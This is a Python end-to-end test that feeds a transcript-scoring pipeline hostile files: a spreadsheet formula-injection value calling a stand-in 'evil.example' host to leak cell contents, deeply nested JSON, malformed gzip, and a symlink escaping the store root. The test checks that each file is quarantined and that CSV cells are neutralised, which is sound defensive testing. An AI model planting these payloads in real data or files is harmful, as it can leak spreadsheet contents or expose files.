"""Issue 18 end to end: one real weekly run over a local store where some files are hostile.

Every failure of one file ends as a quarantine row naming it (the week completes), every
gzip member is read, Amazon's redacted chat is read and a broken preferred copy falls back to
the other copy, and the published CSVs are safe to open in a spreadsheet.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from flows.config.settings import Settings
from flows.pipeline.weekly import weekly_audit
from flows.stores.local import LocalStore

pytestmark = [pytest.mark.e2e, pytest.mark.usefixtures("prefect_harness")]
WEEK = "2026-W47"
SHARED = Path("/work/shared/formats")
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE_TEAM = "+SUM(1,2)"


def _contact(cid: str, agent: str, **extra: Any) -> dict[str, Any]:
    return {
        "contact_id": cid,
        "agent_id": agent,
        "started_at": "2026-11-17T09:00:00Z",
        "turns": [
            {"speaker": "agent", "text": "Hello, thanks for contacting us.", "begin_ms": 0},
            {"speaker": "customer", "text": "My parcel never arrived.", "begin_ms": 900},
            {"speaker": "agent", "text": "I'm sorry, I'll send a new one today.", "begin_ms": 2000},
        ],
        **extra,
    }


def _jsonl(*docs: dict[str, Any]) -> bytes:
    return b"".join(json.dumps(d).encode() + b"\n" for d in docs)


def _bad_turn(cid: str, **turn: Any) -> bytes:
    doc = _contact(cid, "a-9")
    doc["turns"][0].update(turn)
    return json.dumps(doc).encode()


def _chat(contact_id: str, *, redacted: bool) -> bytes:
    """Amazon's published chat example as this contact; redacted as Amazon publishes it
    (`Participants` without `ParticipantRole`)."""
    doc = json.loads((SHARED / "contact-lens-chat.json").read_bytes())
    doc["CustomerMetadata"]["ContactId"] = contact_id
    if redacted:
        for participant in doc["Participants"]:
            del participant["ParticipantRole"]
    return json.dumps(doc).encode()


GOOD = {
    "good-1": "a-1",
    "@good-2": "a-1",  # ids that a spreadsheet would run
    "-good-3": "a-2",
    "good-4": "a-2",
    "member-1": "a-1",
    "member-2": "a-2",
    "cl-1": "a-3",  # Amazon's redacted chat, only that copy
    "cl-2": "a-3",  # its redacted copy is broken: read from the raw copy
}
CL = "Analysis/Chat"
CL1 = f"{CL}/Redacted/2026/11/19/cl-1_analysis_redacted_2026-11-19T10:00:00Z.json"
CL2_REDACTED = f"{CL}/Redacted/2026/11/19/cl-2_analysis_redacted_2026-11-19T10:00:00Z.json"
CL2_RAW = f"{CL}/2026/11/19/cl-2_analysis_2026-11-19T10:00:00Z.json"
T = "transcripts/2026/11"
QUARANTINED = {
    f"{T}/17/huge.json": "'begin_ms' is out of range",
    f"{T}/17/nan.json": "'begin_ms' must be a non-negative number",
    f"{T}/17/deep.json": "nested too deeply",
    f"{T}/17/deep.jsonl#L1": "nested too deeply",
    f"{T}/18/garbage.jsonl.gz": "bytes that are not gzip after member 1",
    f"{T}/18/escape.json": "cannot read the file: key escapes the store root",
    CL2_REDACTED: "malformed JSON",
}


@pytest.fixture
def week_root(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    store = LocalStore(root)
    store.put(
        f"{T}/17/good.jsonl",
        _jsonl(
            _contact("good-1", "a-1", agent_name=HOSTILE_NAME, team=HOSTILE_TEAM),
            _contact("@good-2", "a-1", agent_name=HOSTILE_NAME, team=HOSTILE_TEAM),
            _contact("-good-3", "a-2", agent_name="Bo", team="-ops"),
            _contact("good-4", "a-2", agent_name="Bo", team="-ops"),
        ),
    )
    store.put(f"{T}/17/huge.json", _bad_turn("bad-1", begin_ms=1e300))
    store.put(f"{T}/17/nan.json", _bad_turn("bad-2", begin_ms=float("nan")))
    store.put(f"{T}/17/deep.json", b'{"a":' * 50_000 + b"1" + b"}" * 50_000)
    store.put(f"{T}/17/deep.jsonl", b"[" * 50_000 + b"]" * 50_000 + b"\n")
    store.put(
        f"{T}/18/appended.jsonl.gz",  # `cat a.gz b.gz`
        gzip.compress(_jsonl(_contact("member-1", "a-1")))
        + gzip.compress(_jsonl(_contact("member-2", "a-2"))),
    )
    store.put(f"{T}/18/garbage.jsonl.gz", gzip.compress(_jsonl(_contact("bad-3", "a-9"))) + b"?!")
    outside = tmp_path / "outside.json"
    outside.write_bytes(json.dumps(_contact("leaked", "a-9")).encode())
    (root / T / "18" / "escape.json").symlink_to(outside)
    store.put(CL1, _chat("cl-1", redacted=True))
    store.put(CL2_REDACTED, _chat("cl-2", redacted=True)[:500])  # cut short
    store.put(CL2_RAW, _chat("cl-2", redacted=False))
    store.put("rosters/roster.csv", b"contact_id,agent_id\ncl-1,a-3\ncl-2,a-3\n")
    return root


def test_a_hostile_week_completes_with_every_file_accounted_for(
    week_root: Path, tmp_path: Path
) -> None:
    settings = Settings(
        store="local",
        local_root=week_root,
        input_prefix=f"transcripts,{CL},{CL}/Redacted",
        roster="rosters/roster.csv",
        out_dir=tmp_path / "out",
        output_prefix="scorecards",
        sample="all",
        render_workers=1,
    )
    weekly_audit(week=WEEK, settings=settings)
    out = tmp_path / "out" / WEEK
    ledger = pl.read_csv(out / "ledger.csv", infer_schema_length=0)
    scores_csv = pl.read_csv(out / "scores.csv")
    scores = pl.read_parquet(out / "scores.parquet")

    # Nothing lost: each good contact scored exactly once, raw values in Parquet.
    assert sorted(scores["contact_id"]) == sorted(GOOD)
    assert dict(scores.select("contact_id", "agent_id").iter_rows()) == GOOD
    assert set(scores["state"]) == {"scored"}
    cl2 = ledger.filter(pl.col("contact_id") == "cl-2").select("key", "state").rows()
    assert cl2 == [(CL2_RAW, "scored")]  # read from the raw copy, its redacted one quarantined
    assert ledger.filter(pl.col("key") == CL1)["state"].to_list() == ["scored"]
    assert not ledger.select("key", "contact_id").is_duplicated().any()  # one state each
    # Every hostile file is a quarantine row naming it, with a clear reason.
    quarantined = dict(
        ledger.filter(pl.col("state") == "quarantined").select("key", "reason").iter_rows()
    )
    assert set(quarantined) == set(QUARANTINED)
    for key, reason in QUARANTINED.items():
        assert reason in quarantined[key], (key, quarantined[key])
        assert not quarantined[key].startswith("internal reader error")
    assert "leaked" not in " ".join(ledger["contact_id"].drop_nulls())
    # Nothing that lies: the CSVs read back as text, never as formulas; numbers stay numbers.
    assert set(scores_csv["agent_name"].drop_nulls()) == {f"'{HOSTILE_NAME}", "Bo", "Jane"}
    assert set(scores_csv["team"].drop_nulls()) == {f"'{HOSTILE_TEAM}", "'-ops"}
    assert "'@good-2" in scores_csv["contact_id"].to_list()
    assert "'-good-3" in ledger["contact_id"].to_list()
    assert scores_csv.schema["overall"] == pl.Float64
    assert scores_csv.sort("contact_id")["overall"].to_list() == pytest.approx(
        scores.with_columns(
            contact_id=pl.when(pl.col("contact_id").str.contains(r"^[=+\-@]"))
            .then(pl.lit("'") + pl.col("contact_id"))
            .otherwise("contact_id")
        )
        .sort("contact_id")["overall"]
        .to_list()
    )
    text_columns = [n for n, t in scores.schema.items() if t == pl.String]
    as_text = pl.read_csv(out / "scores.csv", infer_schema_length=0).select(text_columns)
    for frame in (as_text, ledger):
        cells = [c for row in frame.iter_rows() for c in row if c]
        assert not [c for c in cells if c[0] in "=+-@\t\r"]
